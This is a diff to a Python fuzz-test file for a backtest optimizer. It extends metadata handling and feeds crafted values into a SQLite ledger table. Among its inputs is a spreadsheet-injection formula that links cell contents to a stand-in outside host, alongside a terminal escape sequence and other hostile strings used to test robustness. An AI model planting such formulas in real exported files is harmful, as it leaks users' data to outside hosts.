@@ -7,6 +7,7 @@ By default a sample of the product, the same each time; ``BARSWEEP_FUZZ=all`` ta
 from __future__ import annotations
 
 import contextlib
+import dataclasses
 import hashlib
 import json
 import os
@@ -20,6 +21,7 @@ from collections.abc import Callable, Iterator, Sequence
 from pathlib import Path
 from typing import Any, NamedTuple
 
+import numpy as np
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
@@ -32,7 +34,7 @@ from optimizer.errors import BarsweepError
 from optimizer.review.notebook import study_html
 from optimizer.search.run import run_study
 from optimizer.store import batches, ledger
-from optimizer.store.batch_files import MOMENTS_KEY, TRIALS_KEY, parquet_file
+from optimizer.store.batch_files import MAXIMA_KEY, MOMENTS_KEY, TRIALS_KEY, parquet_file
 from optimizer.store.batches import read_batch, read_results
 from optimizer.store.export import export_sets
 from optimizer.store.folder import StudyFolder
@@ -515,7 +517,7 @@ def test_a_crafted_batch(case: str, fuzz: Fuzz) -> None:
         change = TRIALS[case.removeprefix("trials: ")]
         trials = [change(one) for one in json.loads(metadata[TRIALS_KEY])]
         metadata[TRIALS_KEY] = json.dumps(trials).encode()
-    kept = {key: metadata[key] for key in (TRIALS_KEY, MOMENTS_KEY)}
+    kept = {key: metadata[key] for key in (TRIALS_KEY, MOMENTS_KEY, MAXIMA_KEY)}
     path.write_bytes(parquet_file(table.replace_schema_metadata(kept)))
     fuzz.run(case, OF_STUDY)
     for page in ("report.html", "heatmap-lookback-kelly_fraction.html"):
@@ -530,7 +532,7 @@ FORMULA = '=HYPERLINK("http://stranger.example/"&A1,"x")'
 def rewritten(path: Path, frame: Any) -> None:
     """A batch of other rows, with a right checksum."""
     table = pq.read_table(path)
-    metadata = {key: table.schema.metadata[key] for key in (TRIALS_KEY, MOMENTS_KEY)}
+    metadata = {key: table.schema.metadata[key] for key in (TRIALS_KEY, MOMENTS_KEY, MAXIMA_KEY)}
     crafted = pa.Table.from_pandas(frame, preserve_index=False)
     path.write_bytes(parquet_file(crafted.replace_schema_metadata(metadata)))
 
@@ -698,15 +700,36 @@ def test_a_ledger_of_other_content(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) 
     monkeypatch.setenv("BARSWEEP_LEDGER", str(place))
     fuzz.add("ledger", ["ledger"])
     strange = ["", MARKUP, CLOSING, "\x7f\x9b2J", "x" * 100_000, "=1+1"]
+    what = ledger.Search(
+        "0" * 64, "1" * 64, "study", "bars.parquet", ("AAA",), 86_400 * 10**9, 0, 10**18, 3
+    )
     for kind in (*strange, None, -1, 2**63 - 1, 1e308, float("inf"), b"\xff\xfe"):
         place.unlink(missing_ok=True)
-        ledger.note("0" * 64, "1" * 64, "study", "bars.parquet", 3)
-        for column in ("data_hash", "study_hash", "study", "data", "n_sets", "last_run"):
+        ledger.note(what, np.ones(4, np.float32))
+        for column in ("number", "time", "content", "maxima", "hash"):
             with contextlib.closing(sqlite3.connect(place)) as database:
-                with contextlib.suppress(sqlite3.IntegrityError):
-                    database.execute(f"UPDATE studies SET {column} = ?", (kind,))
+                with contextlib.suppress(sqlite3.Error):
+                    database.execute(f"UPDATE entries SET {column} = ?", (kind,))
                 database.commit()
             fuzz.run(f"ledger {column} = {str(kind)[:20]!r}", ("ledger", "show"))
+    for key in (
+        "study_hash",
+        "data_hash",
+        "study",
+        "data",
+        "symbols",
+        "bar_ns",
+        "start_ns",
+        "n_sets",
+    ):
+        for value in (*strange[:4], None, -1, 2**80, 1e308, [], ["", MARKUP], {"a": 1}):
+            place.unlink(missing_ok=True)
+            ledger.note(what, np.ones(4, np.float32))
+            text = json.dumps({**dataclasses.asdict(what), key: value})
+            with contextlib.closing(sqlite3.connect(place)) as database:
+                database.execute("UPDATE entries SET content = ?", (text,))
+                database.commit()
+            fuzz.run(f"ledger {key} = {str(value)[:20]!r}", ("ledger", "show"))
     for content in (b"", b"x" * 5_000, (fuzz.home.safe / "flow" / "analytics.db").read_bytes()):
         place.write_bytes(content)
         fuzz.run(f"ledger of {len(content)} bytes", ("ledger", "show"))
